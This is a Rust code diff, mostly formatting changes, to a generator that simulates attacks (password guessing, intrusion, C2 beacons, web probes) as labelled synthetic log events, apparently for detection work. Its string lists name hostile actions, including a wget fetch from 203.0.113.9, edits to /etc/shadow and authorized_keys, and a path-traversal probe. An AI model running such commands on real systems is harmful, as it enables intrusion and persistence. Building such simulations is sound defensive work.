@@ -108,14 +108,16 @@ pub(super) fn attack(network: &Network, attack: Attack, random: &mut Random, day
     let p = Params { ip: from, ..Params::new(network, "root", host, random) };
     match attack {
         Attack::Guessing => {
-            let (tries, gap_s) = if random.chance(0.3) { (random.between(15, 40), 600) } else { (random.between(20, 150), 3) };
+            let (tries, gap_s) =
+                if random.chance(0.3) { (random.between(15, 40), 600) } else { (random.between(20, 150), 3) };
             guess(host, at, tries, gap_s, &p, random, scribe);
         }
         Attack::DistributedGuessing => {
             let mut now = at;
             for _ in 0..random.between(15, 50) {
                 let p = Params { ip: stranger(random), ..p.clone() };
-                now = guess(host, now, random.between(2, 5), 4, &p, random, scribe) + random.between(2, 40) as i64 * SECOND_MS;
+                now = guess(host, now, random.between(2, 5), 4, &p, random, scribe)
+                    + random.between(2, 40) as i64 * SECOND_MS;
             }
         }
         Attack::Intrusion => intrude(network, host, at, &p, random, scribe),
@@ -132,12 +134,24 @@ pub(super) fn attack(network: &Network, attack: Attack, random: &mut Random, day
     scribe.label = Label::Ordinary;
 }
 
-fn guess(host: usize, mut now: i64, tries: u64, gap_s: u64, p: &Params, random: &mut Random, scribe: &mut Scribe) -> i64 {
+fn guess(
+    host: usize,
+    mut now: i64,
+    tries: u64,
+    gap_s: u64,
+    p: &Params,
+    random: &mut Random,
+    scribe: &mut Scribe,
+) -> i64 {
     let one_name = random.chance(0.4);
     let mut p = p.clone();
     for _ in 0..tries {
         let root = one_name || random.chance(0.3);
-        let name = if root { "root" } else { one_of(random, &["admin", "oracle", "test", "git", "user1", "ftpuser", "guest"]) };
+        let name = if root {
+            "root"
+        } else {
+            one_of(random, &["admin", "oracle", "test", "git", "user1", "ftpuser", "guest"])
+        };
         name.clone_into(&mut p.user);
         p.port = random.between(32_768, 60_000) as u16;
         if random.chance(0.4) {
@@ -173,7 +187,11 @@ fn settle(host: usize, mut now: i64, p: &Params, random: &mut Random, scribe: &m
         match random.below(6) {
             0 => new_account(host, now, &p, scribe),
             1 => {
-                one_of(random, &["/root/.ssh/authorized_keys", "/etc/sudoers", "/etc/shadow", "/home/anna/.ssh/authorized_keys"]).clone_into(&mut p.path);
+                one_of(
+                    random,
+                    &["/root/.ssh/authorized_keys", "/etc/sudoers", "/etc/shadow", "/home/anna/.ssh/authorized_keys"],
+                )
+                .clone_into(&mut p.path);
                 scribe.emit(now, host, Kind::FileChanged, &p);
             }
             2 => {
@@ -187,7 +205,16 @@ fn settle(host: usize, mut now: i64, p: &Params, random: &mut Random, scribe: &m
             }
             4 => scribe.emit(now, host, Kind::GroupAdded, &p),
             _ => {
-                one_of(random, &["/bin/bash", "/usr/bin/wget -q http://203.0.113.9/x", "/usr/bin/chattr +i /tmp/.x", "/usr/sbin/useradd svc"]).clone_into(&mut p.command);
+                one_of(
+                    random,
+                    &[
+                        "/bin/bash",
+                        "/usr/bin/wget -q http://203.0.113.9/x",
+                        "/usr/bin/chattr +i /tmp/.x",
+                        "/usr/sbin/useradd svc",
+                    ],
+                )
+                .clone_into(&mut p.command);
                 scribe.emit(now, host, Kind::SudoCommand, &p);
             }
         }
@@ -211,7 +238,7 @@ fn scan(network: &Network, at: i64, p: &Params, random: &mut Random, scribe: &mu
 
 fn beacon(network: &Network, at: i64, random: &mut Random, scribe: &mut Scribe) {
     let desk = random.below(network.hosts.len());
-    let port = [4444, 8443, 6667, 443, 1337][random.below(5)];
+    let port = random.pick(&[4444, 8443, 6667, 443, 1337]).copied().unwrap_or(443);
     let p = Params { peer: stranger(random), port, ..Params::new(network, "-", desk, random) };
     let period = random.between(20, 180) as i64 * SECOND_MS;
     for beat in 0..random.between(25, 80) as i64 {
@@ -222,7 +249,19 @@ fn beacon(network: &Network, at: i64, random: &mut Random, scribe: &mut Scribe) 
 fn probe(host: usize, mut now: i64, requests: u64, gap_ms: u64, p: &Params, random: &mut Random, scribe: &mut Scribe) {
     let mut p = p.clone();
     for _ in 0..requests {
-        one_of(random, &["/.env", "/wp-login.php", "/phpmyadmin/", "/.git/config", "/cgi-bin/luci", "/admin.php", "/../../etc/passwd"]).clone_into(&mut p.path);
+        one_of(
+            random,
+            &[
+                "/.env",
+                "/wp-login.php",
+                "/phpmyadmin/",
+                "/.git/config",
+                "/cgi-bin/luci",
+                "/admin.php",
+                "/../../etc/passwd",
+            ],
+        )
+        .clone_into(&mut p.path);
         scribe.emit(now, host, if random.chance(0.96) { Kind::WebFailed } else { Kind::WebOk }, &p);
         now += random.between(20, gap_ms * 2) as i64;
     }
@@ -264,7 +303,11 @@ pub(super) fn twin(network: &Network, twin: Twin, random: &mut Random, days: usi
             let mut now = at;
             for _ in 0..random.between(20, 60) {
                 let missing = random.chance(0.35);
-                one_of(random, if missing { &["/old/1.html", "/2019/post", "/tag/x"] } else { &["/", "/news", "/feed.xml"] }).clone_into(&mut p.path);
+                one_of(
+                    random,
+                    if missing { &["/old/1.html", "/2019/post", "/tag/x"] } else { &["/", "/news", "/feed.xml"] },
+                )
+                .clone_into(&mut p.path);
                 scribe.emit(now, host, if missing { Kind::WebFailed } else { Kind::WebOk }, &p);
                 now += random.between(800, 6_000) as i64;
             }
